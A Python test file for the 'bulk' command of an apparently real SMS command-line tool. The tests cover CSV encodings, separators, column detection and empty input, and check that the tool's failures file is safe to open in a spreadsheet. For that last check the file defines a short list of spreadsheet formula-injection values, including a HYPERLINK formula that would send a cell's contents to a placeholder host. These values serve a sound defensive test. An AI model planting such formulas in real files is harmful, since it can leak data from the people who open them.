"""``smscx bulk`` with the files people have: encodings, separators, columns, headers,
Unicode spaces, empty files, and a failures file that is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import shlex
import zipfile
from pathlib import Path

import httpx
import pytest

from tests.cli.conftest import Run
from tests.cli.support import bulk_response, stdout_json
from tests.helpers import Recorder, error_response

NUMBERS = [f"+3361234567{i}" for i in range(5)]


def write(tmp_path: Path, data: bytes, name: str = "numbers.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def bulk(source: Path | str, *extra: str) -> list[str]:
    return ["bulk", str(source), "--from", "InfoText", "--text", "Sale!", "--chunk-size", "2",
            "--batch-id", "files", *extra]  # fmt: skip


def sent(server: Recorder) -> list[str]:
    return sorted(number for body in server.bodies() for number in body["to"])


def lines_of(text: str) -> list[str]:
    return text.splitlines()


# --- Encodings ----------------------------------------------------------------------------


def test_a_byte_order_mark_on_stdin_does_not_hide_the_first_number(run: Run) -> None:
    # The BOM stuck to the first cell, which then did not look like a number: taken for a
    # header, it was skipped without a word.
    server = Recorder(bulk_response)
    data = b"\xef\xbb\xbf" + "\n".join(NUMBERS).encode()
    result = run(server, bulk("-"), input=data)
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS


def test_a_byte_order_mark_on_a_path_does_not_hide_the_first_number(
    run: Run, tmp_path: Path
) -> None:
    server = Recorder(bulk_response)
    path = write(tmp_path, b"\xef\xbb\xbf" + "\r\n".join(NUMBERS).encode())
    assert run(server, bulk(path)).exit_code == 0
    assert sent(server) == NUMBERS


def test_a_utf16_file_with_its_byte_order_mark_is_read(run: Run, tmp_path: Path) -> None:
    # Excel's "Unicode text": UTF-16 with a BOM, tab-separated, CRLF.
    rows = "".join(f"{n}\tClient {i} é\r\n" for i, n in enumerate(NUMBERS))
    path = write(tmp_path, ("téléphone\tnom\r\n" + rows).encode("utf-16"))
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS
    assert "skipped header: téléphone,nom" in lines_of(result.stderr)


def test_a_windows_1252_file_is_read_and_said_in_one_line_saying_how_to_save_it(
    run: Run, tmp_path: Path
) -> None:
    rows = "".join(f"{n};Amélie Müller {i}\r\n" for i, n in enumerate(NUMBERS))
    path = write(tmp_path, ("téléphone;nom\r\n" + rows).encode("cp1252"))
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS
    [note] = [line for line in lines_of(result.stderr) if "UTF-8" in line]
    assert note == (
        f"{path} is not UTF-8 (line 1): read as Windows-1252; to be sure of it, save it as "
        "CSV UTF-8 (Excel: File > Save As > CSV UTF-8)"
    )


def test_a_stray_byte_in_a_column_that_is_not_read_does_not_stop_the_batch(
    run: Run, tmp_path: Path
) -> None:
    data = b"phone,name\n" + b"".join(n.encode() + b",Client \xff\xfe\n" for n in NUMBERS)
    server = Recorder(bulk_response)
    result = run(server, bulk(write(tmp_path, data)))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS


def xlsx_bytes() -> bytes:
    """The start of a workbook as Excel writes one: a ZIP archive of XML parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("numbers.xlsx", xlsx_bytes()),
        ("numbers.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
    ],
)
def test_a_workbook_is_refused_in_one_line_saying_how_to_export_csv(
    run: Run, tmp_path: Path, name: str, data: bytes
) -> None:
    path = write(tmp_path, data, name)
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: {path} is a spreadsheet workbook, not a CSV file: save it as CSV UTF-8 "
        "(Excel: File > Save As > CSV UTF-8)\n"
    )
    assert server.requests == []


def test_utf16_without_its_byte_order_mark_is_refused_in_one_line(run: Run, tmp_path: Path) -> None:
    path = write(tmp_path, "\n".join(NUMBERS).encode("utf-16-le"))
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 2
    assert result.stderr == (
        f"error: {path} is not a text file of numbers (line 1 has NUL bytes): save it as "
        "CSV UTF-8 (Excel: File > Save As > CSV UTF-8)\n"
    )
    assert server.requests == []


def test_utf16_that_breaks_off_is_refused_in_one_line(run: Run, tmp_path: Path) -> None:
    path = write(tmp_path, "\n".join(NUMBERS).encode("utf-16") + b"\x00\xd8")  # a lone surrogate
    result = run(Recorder(bulk_response), bulk(path))
    assert result.exit_code == 2
    assert result.stderr.startswith(f"error: {path} starts as UTF-16 but is not UTF-16 (")
    assert len(lines_of(result.stderr)) == 1


# --- Separators and columns ---------------------------------------------------------------


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_the_separator_is_found_and_the_header_said(
    run: Run, tmp_path: Path, separator: str
) -> None:
    # Excel under French or German settings writes ";": the whole row was taken for a number.
    rows = "".join(f"{n}{separator}Dupont, Jean\n" for n in NUMBERS)
    header = f"phone{separator}name"
    if separator == ",":
        rows = "".join(f'{n},"Dupont, Jean"\n' for n in NUMBERS)
    path = write(tmp_path, f"{header}\n{rows}".encode())
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS
    names = {",": "commas", ";": "semicolons", "\t": "tabs"}
    assert lines_of(result.stderr)[3:5] == [
        "skipped header: phone,name",  # as CSV: a tab would not show
        f"numbers: column 1 (phone) of 2, separated by {names[separator]}",
    ]


def test_without_a_header_no_row_is_dropped(run: Run, tmp_path: Path) -> None:
    # Read as one column, the first row of a ";" file did not look like a number, and was
    # skipped as a header without a word.
    path = write(tmp_path, "".join(f"{n};Client {i}\n" for i, n in enumerate(NUMBERS)).encode())
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS
    assert "skipped header" not in result.stderr


def test_the_numbers_are_read_from_the_first_column_that_holds_phone_numbers(
    run: Run, tmp_path: Path
) -> None:
    rows = "".join(f"{i + 1},2024-03-0{i + 1},{n},Client {i}\n" for i, n in enumerate(NUMBERS))
    path = write(tmp_path, f"id,signed up,mobile,name\n{rows}".encode())
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS
    assert "numbers: column 3 (mobile) of 4, separated by commas" in lines_of(result.stderr)


@pytest.mark.parametrize("column", ["2", "Mobile", " mobile "])
def test_column_picks_the_column_by_position_or_header(
    run: Run, tmp_path: Path, column: str
) -> None:
    rows = "".join(f"+4474001234{i:02d},{n}\n" for i, n in enumerate(NUMBERS))
    path = write(tmp_path, f"landline,mobile\n{rows}".encode())
    server = Recorder(bulk_response)
    result = run(server, bulk(path, "--column", column))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS
    resume = lines_of(result.stderr)[2].removeprefix("to resume, run: ")
    assert shlex.split(resume)[3:5] == ["--column", column]


def test_column_by_position_keeps_a_first_row_that_is_a_number(run: Run, tmp_path: Path) -> None:
    path = write(tmp_path, "".join(f"Client {i},{n}\n" for i, n in enumerate(NUMBERS)).encode())
    server = Recorder(bulk_response)
    assert run(server, bulk(path, "--column", "2")).exit_code == 0
    assert sent(server) == NUMBERS


@pytest.mark.parametrize(
    ("column", "message"),
    [
        ("phone", "--column 'phone': not in the first row of {path} ('landline', 'mobile')"),
        ("3", "--column 3: {path} has 2 columns (--column counts from 1)"),
        ("0", "--column 0: {path} has 2 columns (--column counts from 1)"),
    ],
)
def test_a_column_that_is_not_there_is_one_error_line_before_sending(
    run: Run, tmp_path: Path, column: str, message: str
) -> None:
    path = write(tmp_path, f"landline,mobile\n+441234567890,{NUMBERS[0]}\n".encode())
    server = Recorder(bulk_response)
    result = run(server, bulk(path, "--column", column))
    assert result.exit_code == 2
    assert result.stderr == f"error: {message.format(path=path)}\n"
    assert server.requests == []


def test_a_row_without_a_number_is_reported_by_line(run: Run, tmp_path: Path) -> None:
    text = f"phone,name\n{NUMBERS[0]},Ann\n,Bob\n\n{NUMBERS[1]},Cy\n  ,Dee\n{NUMBERS[2]}\n"
    server = Recorder(bulk_response)
    result = run(server, bulk(write(tmp_path, text.encode())))
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS[:3]
    assert "skipped 2 rows with no number in column 1: line 3, 6" in lines_of(result.stderr)


def test_a_header_is_named_on_stderr(run: Run, tmp_path: Path) -> None:
    path = write(tmp_path, ("Phone Number\n" + "\n".join(NUMBERS)).encode())
    result = run(Recorder(bulk_response), bulk(path))
    assert "skipped header: Phone Number" in lines_of(result.stderr)


# --- Unicode spaces -----------------------------------------------------------------------


@pytest.mark.parametrize("space", ["\u00a0", "\u202f", "\u2007", "\u3000"])
def test_a_first_number_written_with_unicode_spaces_is_not_taken_for_a_header(
    run: Run, tmp_path: Path, space: str
) -> None:
    first = space.join(["+33", "6", "12", "34", "56", "70"])
    path = write(tmp_path, "\n".join([first, *NUMBERS[1:]]).encode())
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 0, result.output
    assert sent(server) == sorted([first, *NUMBERS[1:]])  # sent as written: the API reads it
    assert "skipped header" not in result.stderr


# --- Empty input --------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["", "\n\n  \n", "phone,name\n", "phone\n,\n"])
def test_a_file_without_numbers_is_an_error(run: Run, tmp_path: Path, text: str) -> None:
    path = write(tmp_path, text.encode())
    server = Recorder(bulk_response)
    result = run(server, bulk(path))
    assert result.exit_code == 2
    assert lines_of(result.stderr)[-1] == f"error: no phone numbers found in {path}"
    assert server.requests == []


def test_empty_standard_input_is_an_error_in_json_too(run: Run) -> None:
    result = run(Recorder(bulk_response), bulk("-", "--json"), input=b"")
    assert result.exit_code == 2
    assert stdout_json(result) == {
        "error": {
            "class": "InputFileError",
            "code": None,
            "message": "no phone numbers found in standard input",
            "exit_status": 2,
            "idempotency_id": None,
            "maybe_sent": False,
            "hint": None,
        }
    }


# --- Failures files safe in a spreadsheet -------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x/?"&A2)', "@SUM(1+1)", "-2+3"]


def refuse_formulas(request: httpx.Request) -> httpx.Response:
    """1207 for every request: the formulas are invalid, with a message that is one too."""
    to = json.loads(request.content)["to"]
    return error_response(400, "invalid_param", 1207, "=1+1 is not valid",
                          invalid=[n for n in to if n in FORMULAS])  # fmt: skip


def test_no_cell_of_a_failures_file_starts_a_formula(run: Run, tmp_path: Path) -> None:
    path = write(tmp_path, "\n".join([NUMBERS[0], *FORMULAS]).encode())
    result = run(Recorder(refuse_formulas), bulk(path, "--chunk-size", "10"))
    assert result.exit_code == 4
    with (tmp_path / "numbers.failures.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))[1:]
    assert [row[0] for row in rows] == [f"'{NUMBERS[0]}", *(f"'{f}" for f in FORMULAS)]
    reasons = {row[0]: row[2] for row in rows}
    assert reasons["'@SUM(1+1)"] == "'=1+1 is not valid"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_a_failures_file_reads_back_as_the_numbers_that_failed(run: Run, tmp_path: Path) -> None:
    numbers = [*NUMBERS[:2], "+33 6 12 34 56 79", *FORMULAS]
    path = write(tmp_path, "\n".join(numbers).encode())
    run(Recorder(refuse_formulas), bulk(path, "--chunk-size", "10"))
    again = Recorder(bulk_response)
    result = run(again, bulk(tmp_path / "numbers.failures.csv", "--batch-id", "again"))
    assert result.exit_code == 0, result.output
    assert sent(again) == sorted(numbers)


@pytest.mark.parametrize(
    "cell",
    ["+33612345678", "=1+1", "'=1+1", "''+1", "'", "'a", "-", "@", "\tx", "\rx", "a=b", "", "''"],
)
def test_neutralising_a_cell_is_undone_exactly(cell: str) -> None:
    from smscx.cli._numbers_file import neutralised, unneutralised

    written = neutralised(cell)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unneutralised(written) == cell


@pytest.mark.timeout(30)
def test_a_pipe_given_by_name_is_read_once(run: Run, tmp_path: Path) -> None:
    # `smscx bulk <(zcat numbers.csv.gz) ...`: a pipe cannot be read twice.
    import os
    import threading

    fifo = tmp_path / "numbers.pipe"
    os.mkfifo(fifo)
    writer = threading.Thread(target=fifo.write_text, args=("\n".join(NUMBERS),))
    writer.start()
    server = Recorder(bulk_response)
    result = run(server, bulk(fifo, "--failures", str(tmp_path / "failed.csv")))
    writer.join()
    assert result.exit_code == 0, result.output
    assert sent(server) == NUMBERS
